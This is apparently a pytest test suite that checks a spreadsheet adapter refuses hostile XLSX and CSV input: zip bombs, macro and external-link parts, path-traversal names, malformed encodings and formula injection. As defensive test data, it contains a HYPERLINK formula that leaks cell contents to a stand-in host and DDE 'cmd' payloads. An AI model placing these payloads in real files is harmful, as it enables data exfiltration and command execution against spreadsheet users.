"""Hostile sheets: each is refused with an AdapterInputError naming the place, quickly."""

from __future__ import annotations

import io
import os
import random
import time
import zipfile
from collections.abc import Callable

import pytest

from adapters.base import AdapterInputError
from adapters.sheet import CODEC, SheetCodec, ZipLimits
from tests.unit.test_adapter_sheet import alert, csv_bytes, csv_rows, decode_csv, edited_csv

# A bound against hangs and blow-ups, not a speed goal: generous so a busy CI machine passes.
BOUND_SECONDS = 10.0


def package_members() -> dict[str, bytes]:
    data = CODEC.encode(alert(), variant="xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def repack(members: dict[str, bytes], *, stored: bool = False) -> bytes:
    buffer = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", compression=method) as package:
        for name, data in members.items():
            package.writestr(name, data)
    return buffer.getvalue()


def with_member(name: str, data: bytes) -> bytes:
    return repack({**package_members(), name: data})


def refused(decode: Callable[[], object]) -> AdapterInputError:
    start = time.perf_counter()
    with pytest.raises(AdapterInputError) as caught:
        decode()
    assert time.perf_counter() - start < BOUND_SECONDS
    return caught.value


def xlsx(data: bytes, codec: SheetCodec = CODEC) -> Callable[[], object]:
    return lambda: codec.decode(data, suffix=".xlsx")


# ---------------------------------------------------------------- XLSX packages


def test_a_zip_bomb_is_refused_before_decompressing() -> None:
    # 40 MiB of one byte compress to ~40 KiB: a ratio of ~1000.
    bomb = with_member("xl/worksheets/sheet2.xml", b"<" * (40 * 1024 * 1024))
    assert len(bomb) < 200_000
    error = refused(xlsx(bomb))
    assert error.where.startswith("zip member")
    assert "zip bomb" in str(error)


def test_a_package_unpacking_past_the_total_cap_is_refused() -> None:
    codec = SheetCodec(limits=ZipLimits(max_uncompressed_bytes=256 * 1024))
    big = with_member("xl/media/noise.bin", os.urandom(300 * 1024))
    assert refused(xlsx(big, codec)).where == "file"


def test_too_many_members_are_refused() -> None:
    members = package_members() | {f"xl/media/{i}.png": b"x" for i in range(80)}
    assert "zip members" in str(refused(xlsx(repack(members))))


def test_a_macro_part_is_refused() -> None:
    error = refused(xlsx(with_member("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")))
    assert "macro" in str(error)


def test_an_external_link_part_is_refused() -> None:
    error = refused(xlsx(with_member("xl/externalLinks/externalLink1.xml", b"<externalLink/>")))
    assert "external link" in str(error)


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/evil.xml", "xl/../../evil.xml", "C:/x.xml"])
def test_path_traversal_member_names_are_refused(name: str) -> None:
    assert "path" in str(refused(xlsx(with_member(name, b"<x/>"))))


def test_a_file_that_is_not_a_zip_is_refused() -> None:
    error = refused(xlsx(b"record,person\r\nthis is a CSV named .xlsx\r\n"))
    assert error.where == "file"


def test_a_truncated_zip_is_refused() -> None:
    data = CODEC.encode(alert(), variant="xlsx").data
    for cut in (len(data) // 2, len(data) - 30):
        assert refused(xlsx(data[:cut])).where == "file"


def test_a_corrupted_member_is_refused() -> None:
    members = package_members()
    data = bytearray(repack(members, stored=True))
    at = bytes(data).index(b"<sheetData>")
    data[at : at + 11] = b"<sheetDatX>"  # CRC no longer matches
    assert refused(xlsx(bytes(data))).where == "file"


def test_a_live_formula_cell_is_refused_by_row_and_column() -> None:
    members = package_members()
    sheet = members["xl/worksheets/sheet1.xml"].decode("utf-8")
    head, _, rest = sheet.partition('<c r="W3"')
    rest = rest[rest.index("</c>") + 4 :]
    formula = '<c r="W3"><f>HYPERLINK("http://evil.example/?q="&amp;A1,"x")</f></c>'
    members["xl/worksheets/sheet1.xml"] = (head + formula + rest).encode("utf-8")
    error = refused(xlsx(repack(members)))
    assert error.where == "row 3, column W"
    assert "formula" in str(error)


def test_a_number_cell_that_is_not_a_whole_number_is_refused() -> None:
    members = package_members()
    sheet = members["xl/worksheets/sheet1.xml"].decode("utf-8")
    head, _, rest = sheet.partition('<c r="A3"')
    rest = rest[rest.index("</c>") + 4 :]
    members["xl/worksheets/sheet1.xml"] = (head + '<c r="A3"><v>45726.5</v></c>' + rest).encode()
    error = refused(xlsx(repack(members)))
    assert error.where == "row 3, column A"
    assert "non-text" in str(error)


def test_too_many_rows_are_refused() -> None:
    codec = SheetCodec(limits=ZipLimits(max_rows=5))
    assert "data rows" in str(refused(xlsx(CODEC.encode(alert()).data, codec)))


def test_oversized_input_is_refused_before_parsing() -> None:
    codec = SheetCodec(max_input_bytes=1024)
    assert refused(lambda: codec.decode(b"x" * 2048, suffix=".csv")).where == "file"


# ---------------------------------------------------------------- CSV


@pytest.mark.parametrize(
    ("key", "text"),
    [
        ("summary", '=HYPERLINK("http://evil.example","click")'),
        ("summary", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("question", "-1+1"),
        ("summary", "\t=1+1"),
        ("case_reference", "+cmd|' /C calc'!A0"),
    ],
)
def test_formula_text_is_flagged_and_kept_as_text(key: str, text: str) -> None:
    decoded = decode_csv(edited_csv({("MESSAGE", key): text}))
    assert getattr(decoded.message, key) == text
    assert decoded.warnings == (
        f"row 3, column {key}: starts like a spreadsheet formula; read as plain text",
    )
    assert "calc" not in decoded.warnings[0]


def test_latin1_bytes_are_refused() -> None:
    data = edited_csv({("MESSAGE", "summary"): "Müller café, señor"}).decode("utf-8-sig")
    error = refused(lambda: decode_csv(data.encode("latin-1", errors="replace")))
    assert error.where == "file"


@pytest.mark.parametrize("codec_name", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_utf16_and_utf32_are_refused(codec_name: str) -> None:
    text = CODEC.encode(alert(), variant="csv").data.decode("utf-8-sig")
    data = text.encode(codec_name)
    if not data.startswith((b"\xff\xfe", b"\xfe\xff")):
        data = ("\ufeff" + text).encode(codec_name)
    assert "UTF-16" in str(refused(lambda: decode_csv(data)))


def test_a_row_with_too_many_cells_is_refused() -> None:
    rows = csv_rows(CODEC.encode(alert(), variant="csv").data)
    rows[4] = [*rows[4], "extra"]
    assert refused(lambda: decode_csv(csv_bytes(rows))).where == "row 5"


def test_a_row_past_the_column_cap_is_refused() -> None:
    rows = csv_rows(CODEC.encode(alert(), variant="csv").data)
    rows[3] = rows[3] + [""] * 100 + ["x"]
    assert "columns" in str(refused(lambda: decode_csv(csv_bytes(rows))))


def test_an_unknown_column_key_is_refused_naming_the_column() -> None:
    rows = csv_rows(CODEC.encode(alert(), variant="csv").data)
    rows[0][5] = "salary"
    error = refused(lambda: decode_csv(csv_bytes(rows)))
    assert error.where == "row 1, column F"
    assert "'salary'" in str(error)


def test_a_repeated_column_key_is_refused() -> None:
    rows = csv_rows(CODEC.encode(alert(), variant="csv").data)
    rows[0][5] = "summary"
    assert refused(lambda: decode_csv(csv_bytes(rows))).where == "row 1, column W"


def test_an_unclosed_quote_is_refused() -> None:
    data = CODEC.encode(alert(), variant="csv").data + b'MESSAGE,"never closed\r\n'
    assert refused(lambda: decode_csv(data)).where.startswith("row")


def test_a_huge_cell_is_refused_within_the_bound() -> None:
    data = b'\xef\xbb\xbfrecord,summary\r\nlabels,labels\r\nMESSAGE,"' + b"a" * 3_000_000 + b'"\r\n'
    refused(lambda: decode_csv(data))


def test_many_empty_rows_are_refused_at_the_row_cap() -> None:
    data = CODEC.encode(alert(), variant="csv").data + b",\r\n" * 20_000
    assert "data rows" in str(refused(lambda: decode_csv(data)))


def test_random_bytes_only_raise_adapter_input_errors() -> None:
    for seed in range(50):
        blob = random.Random(seed).randbytes(seed * 7 + 1)  # noqa: S311 - fixed test data
        for suffix in (".csv", ".xlsx", None):
            try:
                CODEC.decode(blob, suffix=suffix)
            except AdapterInputError:
                continue
